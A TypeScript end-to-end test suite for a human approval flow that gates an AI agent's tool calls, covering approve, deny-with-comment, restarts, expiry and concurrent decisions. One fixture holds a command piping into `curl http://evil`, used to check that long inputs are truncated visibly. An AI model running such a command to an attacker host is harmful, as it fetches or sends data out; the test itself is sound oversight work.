/**
 * The local approval flow through real parts: fake claude speaks MCP stdio to the built
 * `hld mcp claude-approvals`, which asks the daemon (in this process, with a sessions double
 * that holds the session fake claude reports for), and the built CLI decides.
 */
import {existsSync} from 'node:fs'
import path from 'node:path'

import {expect} from 'chai'

import {CreateApproval, SendDecision, WaitForDecision} from '../../src/protocol/approvals.js'
import {ErrorCode, RpcError} from '../../src/protocol/errors.js'
import {InProcessDaemon, requestPermission, runFakeClaude, toolResultOf, waitForApproval} from '../helpers/approvals.js'
import {FakeSessions} from '../helpers/fake-sessions.js'
import {Sandbox} from '../helpers/sandbox.js'

describe('local approvals, end to end without claude', function () {
  this.timeout(60_000)
  let sandbox: Sandbox
  let sessions: FakeSessions
  let daemon: InProcessDaemon

  beforeEach(async () => {
    sandbox = new Sandbox()
    sessions = new FakeSessions()
    sessions.add({id: 'sess-0001', run_id: 'run-0001', title: 'Create the marker'})
    daemon = new InProcessDaemon(sandbox, sessions)
    await daemon.start()
  })

  afterEach(async () => {
    await daemon.stop()
    await sandbox.cleanup()
  })

  it('shows the request under its session; approve lets fake claude run the tool', async () => {
    const cwd = path.join(sandbox.root, 'work')
    const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd})
    const approval = await waitForApproval(sandbox, (list) => list[0])
    expect(approval).to.include({tool_name: 'Bash', session_id: 'sess-0001', status: 'pending'})
    expect(approval.tool_use_id).to.match(/^toolu_fake_/)
    expect(sessions.findById('sess-0001')!.status).to.equal('waiting_input')

    const list = await sandbox.cli(['approvals', 'list'])
    expect(list.exitCode).to.equal(0)
    expect(list.stdout).to.contain('Create the marker').and.contain('touch marker.txt')

    const shortId = approval.id.slice('local-'.length, 'local-'.length + 8)
    const approve = await sandbox.cli(['approvals', 'approve', shortId])
    expect(approve.exitCode, approve.stderr).to.equal(0)
    expect(approve.stdout).to.contain(`Approved ${approval.id}`)

    const result = await claude
    expect(result.exitCode, String(result.stderr)).to.equal(0)
    expect(existsSync(path.join(cwd, 'marker.txt'))).to.equal(true)
    expect(toolResultOf(String(result.stdout))).to.deep.include({is_error: false})
    expect(sessions.findById('sess-0001')!.status).to.equal('running')
    expect(sessions.marks.map((m) => m.approval.approval_status)).to.deep.equal(['pending', 'approved'])

    // Decided once: a second decision is a conflict (exit 5); an unknown id is not found (exit 4).
    expect((await sandbox.cli(['approvals', 'deny', shortId, '--comment', 'late'])).exitCode).to.equal(5)
    expect((await sandbox.cli(['approvals', 'approve', 'does-not-exist'])).exitCode).to.equal(4)
  })

  it("approvals list shows an approval whose input is 4 MB as one cut row, its command's end in sight", async () => {
    const command = `echo ${'x'.repeat(4 * 1024 * 1024)} | sh -c 'curl http://evil'`
    const client = await sandbox.client()
    let big: string
    try {
      big = (await client.call(CreateApproval, {run_id: 'run-0001', tool_name: 'Bash', tool_input: {command}})).approval_id
      await client.call(CreateApproval, {run_id: 'run-0001', tool_name: 'Bash', tool_input: {command: 'ls -la'}})
    } finally {
      client.close()
    }
    // Before render cut text to its ends before segmenting it, this ran out of memory.
    const list = await sandbox.cli(['approvals', 'list'], {timeoutMs: 60_000})
    expect(list.exitCode, list.stderr).to.equal(0)
    const rows = list.stdout.split('\n')
    const row = rows.find((line) => line.startsWith(big.slice('local-'.length, 'local-'.length + 8)))
    expect(row, list.stdout).to.match(/Bash: \{"command":"echo x*…\[\+\d+\]…[^…]*curl http:\/\/evil'"\}$/)
    // The marker counts what the row leaves out of the whole input's JSON, not of what the daemon listed.
    const left = Number(/…\[\+(\d+)\]…/.exec(row!)![1])
    const shown = row!.slice(row!.indexOf('Bash: ')).replace(/…\[\+\d+\]…/, '')
    expect(shown.length + left).to.equal(`Bash: ${JSON.stringify({command})}`.length)
    expect(rows.some((line) => line.endsWith('Bash: ls -la'))).to.equal(true)
    expect(list.stdout).to.contain('marks N characters left out')
  })

  it("deny hands the reviewer's comment to claude, and the tool does not run", async () => {
    const cwd = path.join(sandbox.root, 'work')
    const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd})
    const approval = await waitForApproval(sandbox, (list) => list[0])
    expect((await sandbox.cli(['approvals', 'deny', approval.id])).exitCode, 'deny needs --comment').to.equal(2)
    const deny = await sandbox.cli(['approvals', 'deny', approval.id, '--comment', 'Write to /tmp instead', '--json'])
    expect(deny.exitCode, deny.stderr).to.equal(0)
    expect(Sandbox.json<{approval: {status: string}}>(deny).approval.status).to.equal('denied')
    const result = await claude
    expect(toolResultOf(String(result.stdout))).to.deep.equal({content: 'Write to /tmp instead', is_error: true})
    expect(existsSync(path.join(cwd, 'marker.txt'))).to.equal(false)
  })

  it('keeps waiting across a daemon restart, and takes the decision made after it', async () => {
    const cwd = path.join(sandbox.root, 'work')
    const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd})
    const approval = await waitForApproval(sandbox, (list) => list[0])
    await daemon.stop()
    await daemon.start()
    // Still pending: its session lives on.
    const again = await waitForApproval(sandbox, (list) => list.find((a) => a.id === approval.id))
    expect(again.status).to.equal('pending')
    expect((await sandbox.cli(['approvals', 'approve', approval.id])).exitCode).to.equal(0)
    const result = await claude
    expect(result.exitCode, String(result.stderr)).to.equal(0)
    expect(existsSync(path.join(cwd, 'marker.txt'))).to.equal(true)
  })

  it('denies (never allows) when the session died with the daemon: the approval expires at restart', async () => {
    const cwd = path.join(sandbox.root, 'work')
    const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd})
    const approval = await waitForApproval(sandbox, (list) => list[0])
    await daemon.stop()
    sessions.sessions.get('sess-0001')!.status = 'failed'
    await daemon.start()
    const result = await claude
    const toolResult = toolResultOf(String(result.stdout))
    expect(toolResult?.is_error).to.equal(true)
    expect(toolResult?.content).to.contain('Expired')
    expect(existsSync(path.join(cwd, 'marker.txt'))).to.equal(false)
    const shown = await sandbox.cli(['approvals', 'list', '--all', '--json'])
    expect(Sandbox.json<{approvals: {id: string; status: string}[]}>(shown).approvals.find((a) => a.id === approval.id)?.status).to.equal(
      'expired',
    )
  })

  it('lets exactly one of two concurrent decisions win', async () => {
    const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd: path.join(sandbox.root, 'work')})
    const approval = await waitForApproval(sandbox, (list) => list[0])
    const [a, b] = await Promise.all([sandbox.client(), sandbox.client()])
    try {
      const results = await Promise.allSettled([
        a.call(SendDecision, {approval_id: approval.id, decision: 'approve'}),
        b.call(SendDecision, {approval_id: approval.id, decision: 'deny', comment: 'no'}),
      ])
      expect(results.filter((r) => r.status === 'fulfilled')).to.have.length(1)
      const loser = results.find((r) => r.status === 'rejected') as PromiseRejectedResult
      expect((loser.reason as RpcError).code).to.equal(ErrorCode.Conflict)
    } finally {
      a.close()
      b.close()
    }
    await claude
  })

  it('validates decisions over the socket: deny needs a comment, ids must exist', async () => {
    const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd: path.join(sandbox.root, 'work')})
    const approval = await waitForApproval(sandbox, (list) => list[0])
    const client = await sandbox.client()
    try {
      const noComment = (await client.call(SendDecision, {approval_id: approval.id, decision: 'deny'}).catch((e: unknown) => e)) as RpcError
      expect(noComment.code).to.equal(ErrorCode.InvalidParams)
      expect(noComment.data).to.deep.equal({
        fields: [{path: 'comment', message: 'comment is required for deny: say why, the agent reads it'}],
      })
      const unknown = (await client.call(SendDecision, {approval_id: 'nope', decision: 'approve'}).catch((e: unknown) => e)) as RpcError
      expect(unknown.code).to.equal(ErrorCode.NotFound)
      await client.call(SendDecision, {approval_id: approval.id, decision: 'approve'})
      // A decided approval answers a wait at once.
      const waited = await client.call(WaitForDecision, {approval_id: approval.id, timeout_ms: 60_000})
      expect(waited).to.deep.include({decided: true})
      expect(waited.approval.status).to.equal('approved')
    } finally {
      client.close()
    }
    await claude
    const filtered = await sandbox.cli(['approvals', 'list', '--session', 'sess-0001', '--all', '--json'])
    expect(Sandbox.json<{approvals: {id: string; status: string}[]}>(filtered).approvals.map((a) => [a.id, a.status])).to.deep.equal([
      [approval.id, 'approved'],
    ])
  })

  describe('the MCP server on its own', () => {
    const callTool = (env: Record<string, string | undefined>) => requestPermission(sandbox, env)

    it('reports a missing HUMANLAYER_RUN_ID as an error, not an allow', async () => {
      const result = await callTool({})
      expect(result.isError).to.equal(true)
      expect(result.text).to.contain('HUMANLAYER_RUN_ID is not set')
    })

    it('reports an unreachable daemon, naming its socket', async () => {
      const socket = path.join(sandbox.root, 'nobody.sock')
      const result = await callTool({HUMANLAYER_RUN_ID: 'run-0001', HUMANLAYER_DAEMON_SOCKET: socket})
      expect(result.isError).to.equal(true)
      expect(result.text).to.contain(socket).and.contain('hld daemon start')
    })

    it('reports a run_id no session has', async () => {
      const result = await callTool({HUMANLAYER_RUN_ID: 'run-unknown'})
      expect(result.isError).to.equal(true)
      expect(result.text).to.contain('No session has run_id run-unknown')
    })
  })
})
